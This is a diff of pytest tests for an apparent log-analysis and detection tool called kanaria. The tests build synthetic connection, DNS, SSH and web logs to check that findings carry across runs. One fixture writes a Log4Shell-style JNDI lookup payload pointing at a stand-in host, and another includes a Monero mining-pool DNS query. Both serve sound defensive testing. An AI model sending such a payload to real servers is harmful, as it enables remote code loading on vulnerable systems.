@@ -2,23 +2,28 @@
 
 from __future__ import annotations
 
+import json
 import shutil
 import sqlite3
 from collections.abc import Callable
 from contextlib import closing
-from datetime import timedelta
+from datetime import datetime, timedelta
 from pathlib import Path
 
 import pytest
 
 import kanaria as api
+from kanaria.app.run.engine import Engine, Judged
+from kanaria.app.run.setup import prepare
 from kanaria.core.types import Analysis
+from kanaria.sources import text_stream
 from kanaria.store.incidents import IncidentStore
 from tests.app.running import Kanaria
-from tests.app.test_cli_incident import DAY, SERVER, logon
+from tests.app.test_cli_incident import DAY, SERVER, flow, logon
 from tests.app.test_what_teaches import hourly, tables
 
-STRANGER = "203.0.113.9"
+STRANGER, RENTED = "203.0.113.9", "198.51.100.80"
+DEVICE, POOL = "192.168.1.20", "203.0.113.44"
 
 
 def parts(store: Path) -> set[str]:
@@ -90,6 +95,97 @@ def test_carried_and_correlations_a_logon_belongs_to_the_guessing_before(
     assert fewer < rules, (fewer, rules)
     alone = api.analyse(first / "auth2.log", store=without("carried"))
     assert max(len(i.findings) for i in whole.incidents) > max((len(i.findings) for i in alone.incidents), default=0)
+
+
+def parted(store: Path, part: str) -> list[tuple[str, Path]]:
+    """The store of a first run, and as it would be without a part of its state."""
+    left = store.with_name(f"{store.name}-without")
+    shutil.copytree(store, left)
+    forget(left, part)
+    return [("whole", store), ("without", left)]
+
+
+def test_contacts_hours_of_mining_count_over_all_runs(kanaria: Kanaria, tmp_path: Path) -> None:
+    """A finding quotes fifty connections, and rows of events are not kept here: what was counted before is left."""
+    (tmp_path / "k.toml").write_text("[events]\ndays = 0\n")
+
+    def mines(folder: str, begin: datetime, times: int) -> None:
+        (tmp_path / folder).mkdir()
+        every = [flow(begin + timedelta(minutes=2 * n), n, DEVICE, POOL, 3333, seconds=60.0) for n in range(times)]
+        (tmp_path / folder / "conn.log").write_text("\n".join(every) + "\n")
+        asked = {
+            "ts": begin.timestamp() - 30, "uid": f"D{times}", "id.orig_h": DEVICE, "id.orig_p": 5000,
+            "id.resp_h": "192.168.1.1", "id.resp_p": 53, "proto": "udp", "query": "pool.supportxmr.com",
+            "qtype_name": "A", "rcode_name": "NOERROR", "answers": [POOL],
+        }  # fmt: skip
+        (tmp_path / folder / "dns.log").write_text(json.dumps(asked) + "\n")
+
+    mines("one", DAY + timedelta(hours=10), 200)
+    mines("two", DAY + timedelta(hours=20), 3)
+    run = ("--config", "k.toml", "--format", "json")
+    assert kanaria("analyze", "one", "--store", "s", *run).status == 1
+    hours = {}
+    for name, store in parted(tmp_path / "s", "contacts"):
+        (incident,) = kanaria("analyze", "two", "--store", str(store), *run).document["incidents"]
+        hours[name] = incident["impact"]["estimate"]["inputs"][0]["value"]
+    assert hours["whole"] == pytest.approx(203 / 60, abs=0.01) and hours["without"] < 1, hours
+
+
+def test_home_a_single_conversation_is_of_the_server_that_an_earlier_run_showed(
+    kanaria: Kanaria, tmp_path: Path
+) -> None:
+    visits = [flow(DAY + timedelta(minutes=n), n, f"198.18.1.{n}", RENTED, 443) for n in range(30)]
+    (tmp_path / "one.log").write_text("\n".join(visits) + "\n")
+    (tmp_path / "two.log").write_text(flow(DAY + timedelta(hours=2), 950, STRANGER, RENTED, 22) + "\n")
+    kanaria("analyze", "one.log", "--store", "s")
+    for (name, store), ours in zip(parted(tmp_path / "s", "home"), (RENTED, STRANGER), strict=True):
+        said = " ".join(kanaria("analyze", "two.log", "--store", str(store)).out.split())
+        assert f"{ours}/32 takes part in nearly every connection and counts as yours" in said, name
+
+
+def written(host: str, since: float, hours: float) -> list[str]:
+    """A logon each half hour."""
+    times = [DAY + timedelta(hours=since + n / 2, seconds=len(host)) for n in range(int(2 * hours))]
+    return [
+        f"{at:%Y-%m-%dT%H:%M:%S}+00:00 {host} sshd[7]: Accepted publickey for root from 192.168.1.4 port 40000 ssh2"
+        for at in times
+    ]
+
+
+def test_silence_a_host_that_stopped_between_two_runs_is_missed(kanaria: Kanaria, tmp_path: Path) -> None:
+    """Its last record is of the first run, in which it was as regular as ever."""
+    hosts = ("gate", "web01", "mail01", "files1")
+    for number, (since, hours, names) in enumerate([(0, 30, hosts), (30, 20, hosts[1:])], 1):
+        lines = sorted(line for name in names for line in written(name, since, hours))
+        (tmp_path / f"remote{number}.log").write_text("\n".join(lines) + "\n")
+    assert kanaria("analyze", "remote1.log", "--store", "s").status == 0
+    for (name, store), status in zip(parted(tmp_path / "s", "silence"), (1, 0), strict=True):
+        done = kanaria("analyze", "remote2.log", "--store", str(store), "--format", "json")
+        assert done.status == status, name
+        rules = {finding["rule"] for one in done.document["incidents"] for finding in one["findings"]}
+        assert rules == ({"log_source_silent"} if status else set()), name
+    again = kanaria("analyze", "remote2.log", "--store", "s", "--format", "json")
+    assert {one["alert"]["kind"] for one in again.document["incidents"]} <= {"unchanged"}, "it is told once"
+
+
+def test_web_what_a_server_usually_answers_is_known_after_a_restart(tmp_path: Path) -> None:
+    """As ``kanaria serve`` does: an attack that gets what everybody gets has less of a success."""
+    page = '203.0.113.{n} - - [{at:%d/%b/%Y:%H:%M:%S +0000}] "GET / HTTP/1.1" 200 5120 "-" "Mozilla/5.0"'
+    pages = "\n".join(page.format(n=n, at=DAY + timedelta(minutes=n)) for n in range(60))
+    attack = page.replace("GET /", "GET /?x=${{jndi:ldap://198.51.100.9/a}}").format(n=99, at=DAY + timedelta(hours=2))
+
+    def lives(store: Path, text: str) -> list[str]:
+        with Engine(prepare(store=store), lateness=timedelta(0)) as engine:
+            judged = engine.step(engine.read([text_stream("access.log", text.encode())]))
+            engine.commit(judged, checkpoint=False)
+            engine.commit(engine.hurry(), checkpoint=False)
+            engine.commit(Judged(changed=()))
+        return [item.kind for incident in judged.changed for item in incident.evidence]
+
+    assert lives(tmp_path / "s", pages) == []
+    for (name, store), known in zip(parted(tmp_path / "s", "web"), (True, False), strict=True):
+        found = lives(store, f"{page.format(n=7, at=DAY)}\n{attack}")
+        assert found and ("size_as_usual_for_status" in found) is known, name
 
 
 class TestArchive:
